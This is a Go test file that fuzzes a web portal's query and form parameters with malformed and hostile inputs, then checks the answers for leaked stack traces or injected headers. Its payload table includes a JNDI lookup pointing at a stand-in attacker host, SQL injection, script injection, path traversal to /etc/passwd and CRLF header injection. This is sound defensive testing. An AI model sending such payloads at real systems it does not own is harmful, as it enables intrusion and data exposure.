package suites

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"runtime"
	"strings"
	"sync"
	"time"
)

// hostile is one request that no client would make.
type hostile struct {
	what   string // for messages: the place and the input
	method string
	path   string // with the query as it is sent
	header http.Header
	body   string
}

// injected is a header that hostile values try to add to an answer.
const injected = "X-Injected"

// answerLimit is after how long a hostile request counts as hanging. It is longer
// than the second that an unknown client takes (docs/portal/identity.md §1.1).
const answerLimit = 5 * time.Second

// hostileValues are inputs that parsers stumble over, percent-encoded for a query
// or a form, by name.
var hostileValues = map[string]string{
	"nothing":              "",
	"blanks":               "+%20%09",
	"NUL":                  "a%00b",
	"only NULs":            strings.Repeat("%00", 100),
	"invalid UTF-8":        "%ff%fe%80",
	"overlong UTF-8":       "%c0%ae%c0%ae%2f",
	"cut UTF-8":            "%e2%82",
	"surrogates":           "%ed%a0%80",
	"a bad escape":         "%zz",
	"a cut escape":         "a%",
	"a half escape":        "a%4",
	"double escapes":       "%2500%250d%250a",
	"CR and LF":            "a%0d%0a" + injected + ":%201",
	"LF":                   "a%0a" + injected + ":%201",
	"CR":                   "a%0d" + injected + ":%201",
	"other line ends":      "a%e5%98%8a" + injected + ":%201%e2%80%a8%c2%85",
	"controls":             "%01%02%07%08%1b%7f",
	"a script":             "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
	"quotes":               "%27%22%60%5C",
	"SQL":                  "%27%20OR%20%271%27%3D%271%27%3B--",
	"a look-up":            "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example.test%2Fa%7D",
	"a template":           "%7B%7B7*7%7D%7D%24%7B7*7%7D%23%7B7*7%7D",
	"a path":               "..%2F..%2F..%2Fetc%2Fpasswd%00",
	"JSON":                 "%7B%22a%22%3A%5B1%2C%7B%7D%5D%7D",
	"an array":             "%5B%5D",
	"a number":             "-9223372036854775809",
	"a long number":        strings.Repeat("9", 400),
	"a format":             "%25s%25n%25x%25d",
	"emoji":                "%f0%9f%92%a9%f0%9f%8f%b3",
	"right to left":        "%e2%80%ae%d7%90",
	"combining characters": strings.Repeat("e%cc%81", 50),
	"semicolons":           "a;b;client_id=c",
	"many scopes":          strings.Repeat("files:read+", 90) + "files:read",
	"a URL":                "javascript%3Aalert(1)%2F%2Fhttps%3A%2F%2Fattacker.example.test",
}

// hostileBodies are form bodies that would not fit into an address.
var hostileBodies = map[string]string{
	"64 KB":                    "%s=" + strings.Repeat("A", 64<<10),
	"64 KB of escapes":         "%s=" + strings.Repeat("%%00", 64<<10/3),
	"10,000 scopes":            "%s=x&scope=" + strings.Repeat("files:read+", 10_000),
	"10,000 different scopes":  "%s=x&scope=" + numbered("scope:%d+", 10_000),
	"a thousand values":        strings.Repeat("%[1]s=x&", 1000),
	"a thousand parameters":    numbered("p%d=x&", 1000) + "%s=x",
	"ampersands":               strings.Repeat("&", 10_000) + "%s=x",
	"equals signs":             "%s" + strings.Repeat("=", 10_000),
	"raw NUL and raw newlines": "%s=a\x00b\r\n" + injected + ": 1\r\n",
	"raw invalid UTF-8":        "%s=\xff\xfe\xfd",
	"brackets":                 "%[1]s[]=x&%[1]s[a]=y&%[1]s.b=z",
}

func numbered(format string, n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}

// hostileTypes are content types for a body that is a form.
var hostileTypes = []string{
	"", "application/json", "text/plain", "application/x-www-form-urlencoded;charset=utf-7",
	"application/x-www-form-urlencoded; charset=no-such-charset", "multipart/form-data", "multipart/form-data; boundary=x",
	"multipart/form-data; boundary=" + strings.Repeat("b", 300), "application/octet-stream", "a/b/c", ";;;", "*/*",
}

// attack sends the requests, a few at once, and fails the check at the first answer
// that wrong complains of; no answer, or none within answerLimit, is one. Evidence
// is kept of that request only: it is sent once more, as nobody reads the others.
func (c *Case) attack(requests []hostile, wrong func(answer Response) string) {
	const parallel = 8
	queue := make(chan hostile)
	var workers sync.WaitGroup
	ctx, stop := context.WithCancel(c.ctx)
	defer stop()
	for range parallel {
		workers.Go(func() {
			defer stop() // one that ends the check ends all
			for h := range queue {
				complaint := c.provoke(c.session.transport, h, wrong)
				if complaint == "" {
					continue
				}
				stop()
				c.Step(h.what)
				c.provoke(c.client.Transport, h, wrong)
				c.Fail("%s: %s", h.what, complaint)
			}
		})
	}
feed:
	for _, h := range requests {
		select {
		case queue <- h:
		case <-ctx.Done():
			break feed
		}
	}
	close(queue)
	workers.Wait()
	c.joined()
}

// provoke sends a hostile request and returns what is wrong with the answer, ""
// for nothing. Not through the client of the check, which fails at a Location that
// is no URL, and that does no harm.
func (c *Case) provoke(transport http.RoundTripper, h hostile, wrong func(answer Response) string) string {
	ctx, cancel := context.WithTimeout(c.ctx, answerLimit)
	defer cancel()
	resp, err := transport.RoundTrip(c.Request(h.method, h.path, h.header, strings.NewReader(h.body)).WithContext(ctx))
	if err == nil {
		defer resp.Body.Close()
		var body []byte
		if body, err = io.ReadAll(io.LimitReader(resp.Body, bodyLimit)); err == nil {
			return wrong(Response{
				Request: h.method + " " + h.path, Status: resp.StatusCode, Header: resp.Header, Body: body, redacted: c.redactor.Text,
			})
		}
	}
	if errors.Is(err, context.DeadlineExceeded) {
		return fmt.Sprintf("no answer within %s", answerLimit)
	}
	return fmt.Sprintf("no answer: %v", err)
}

// joined ends the check if one of its goroutines decided it.
func (c *Case) joined() {
	c.mu.Lock()
	decided := c.verdict != ""
	c.mu.Unlock()
	if decided {
		runtime.Goexit()
	}
}

// hostileForms are the hostile values at each parameter of a request, in the query
// for GET and in the form for POST. The other parameters keep their right values.
func hostileForms(method, path string, header http.Header, right url.Values, names ...string) []hostile {
	var all []hostile
	for _, name := range names {
		rest := With(right, name).Encode()
		for _, what := range sortedKeys(hostileValues) {
			h := hostile{what: path + ", " + name + ": " + what, method: method, path: path, header: header.Clone()}
			h.place(strings.TrimPrefix(rest+"&"+name+"="+hostileValues[what], "&"))
			all = append(all, h)
		}
		if method != http.MethodPost {
			continue
		}
		for _, what := range sortedKeys(hostileBodies) {
			h := hostile{what: path + ", " + name + ": " + what, method: method, path: path, header: header.Clone()}
			h.place(strings.TrimPrefix(rest+"&"+fmt.Sprintf(hostileBodies[what], name), "&"))
			all = append(all, h)
		}
	}
	return all
}

// place puts parameters where the method has them.
func (h *hostile) place(parameters string) {
	if h.method == http.MethodGet {
		h.path += "?" + parameters
		return
	}
	h.body = parameters
	if h.header == nil {
		h.header = http.Header{}
	}
	h.header.Set("Content-Type", "application/x-www-form-urlencoded")
}

// traces are words of a stack trace that reached the caller.
var traces = [][]byte{
	[]byte("\n\tat "), []byte(`\n\tat `), []byte("java.lang."), []byte("org.springframework."), []byte("goroutine "), []byte(".go:"),
	[]byte("Traceback (most recent"), []byte("   at ASC."),
}

// harm is what an answer gives away, or lets the request do to it; "" for nothing.
func harm(answer Response) string {
	if answer.Header.Get(injected) != "" {
		return fmt.Sprintf("a header of the request's making: %v", answer)
	}
	for _, trace := range traces {
		if bytes.Contains(answer.Body, trace) {
			return fmt.Sprintf("a stack trace: %v", answer)
		}
	}
	return ""
}
